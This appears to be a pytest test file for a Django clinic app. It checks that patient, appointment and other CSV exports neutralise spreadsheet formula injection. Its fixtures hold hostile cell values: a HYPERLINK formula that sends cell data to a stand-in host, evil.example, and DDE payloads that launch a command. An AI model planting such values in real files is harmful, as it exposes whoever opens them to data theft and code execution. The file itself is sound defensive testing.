"""Every CSV export neutralises cells a spreadsheet would run as a formula (OWASP CSV injection)."""

from __future__ import annotations

import csv
import io
import re
from pathlib import Path

import pytest
from django.core.management import call_command

from clinic.csv_safety import FORMULA_TRIGGERS, csv_cell, csv_cell_restore
from patients.management.commands.export_csv import EXPORTS
from patients.models import Patient
from tests.factories import AppointmentFactory, PatientFactory, PractitionerFactory, RoomFactory, ServiceFactory

pytestmark = pytest.mark.django_db
HOSTILE = '=HYPERLINK("http://evil.example/?x="&A1,"click")'
REPO = Path(__file__).resolve().parents[2]


def _hostile_rows(clinic):
    """A patient, practitioner, service and room whose every text field starts with a trigger."""
    patient = PatientFactory(
        clinic=clinic,
        given_name=HOSTILE,
        family_name="+cmd|' /C calc'!A0",
        preferred_name="-2+3+cmd|' /C calc'!A0",
        address_line1="@SUM(1+1)*cmd|' /C calc'!A0",
        address_line2="\t=1+1",
        city="\r=1+1",
        region="=1+1",
        postal_code="-1",
        country="@x",
    )
    practitioner = PractitionerFactory(clinic=clinic, display_name="=cmd|' /C calc'!A0")
    service = ServiceFactory(clinic=clinic, name="+1+1")
    room = RoomFactory(clinic=clinic, name="@room")
    AppointmentFactory(clinic=clinic, patient=patient, practitioner=practitioner, service=service, room=room)
    return patient


@pytest.mark.parametrize("what", sorted(EXPORTS))
def test_no_exported_cell_starts_with_a_formula_character(tmp_path, clinic, what):
    _hostile_rows(clinic)
    path = tmp_path / f"{what}.csv"
    call_command("export_csv", what, "--clinic", clinic.slug, "--output", str(path), stderr=io.StringIO())
    rows = list(csv.reader(io.StringIO(path.read_text(encoding="utf-8"), newline="")))
    assert len(rows) == 2  # the header and the hostile row
    cells = [cell for row in rows for cell in row]
    assert [cell for cell in cells if cell.startswith(FORMULA_TRIGGERS)] == []
    assert any(cell.startswith("'") for cell in cells)  # the hostile values were written, quoted


def test_the_appointments_export_quotes_the_patients_name(tmp_path, clinic):
    _hostile_rows(clinic)
    path = tmp_path / "appointments.csv"
    call_command("export_csv", "appointments", "--clinic", clinic.slug, "--output", str(path), stderr=io.StringIO())
    row = next(csv.DictReader(io.StringIO(path.read_text(encoding="utf-8"), newline="")))
    assert row["patient_name"].startswith("'=HYPERLINK(")
    assert row["practitioner"] == "'=cmd|' /C calc'!A0"
    assert row["service"] == "'+1+1"
    assert row["room"] == "'@room"


def test_negative_numbers_and_phone_numbers_are_quoted_too():
    assert csv_cell(-5) == "'-5"
    assert csv_cell("+14165550123") == "'+14165550123"
    assert csv_cell("Ada") == "Ada"
    assert csv_cell(None) == ""
    assert csv_cell_restore("'+14165550123") == "+14165550123"
    assert csv_cell_restore("'Neill") == "'Neill"  # a quote before a letter is the name's own


def test_a_hostile_patient_exported_and_imported_back_keeps_its_values(tmp_path, clinic, other_clinic):
    original = _hostile_rows(clinic)
    path = tmp_path / "patients.csv"
    call_command("export_csv", "patients", "--clinic", clinic.slug, "--output", str(path), stderr=io.StringIO())
    call_command(
        "import_patients", str(path), "--clinic", other_clinic.slug, stdout=io.StringIO(), stderr=io.StringIO()
    )
    imported = Patient.objects.get(clinic=other_clinic)
    assert imported.given_name == HOSTILE
    assert imported.family_name == original.family_name
    assert str(imported.mobile_phone) == str(original.mobile_phone)


def test_every_csv_writer_in_the_code_is_the_safe_one():
    """A new export cannot bypass the helper: only clinic/csv_safety.py builds a csv writer."""
    writers = []
    for path in REPO.glob("**/*.py"):
        relative = path.relative_to(REPO)
        if relative.parts[0] in {".venv", "tests", "var", "node_modules"} or relative == Path("clinic/csv_safety.py"):
            continue
        if re.search(r"csv\.(writer|DictWriter)\(", path.read_text(encoding="utf-8")):
            writers.append(str(relative))
    assert writers == []
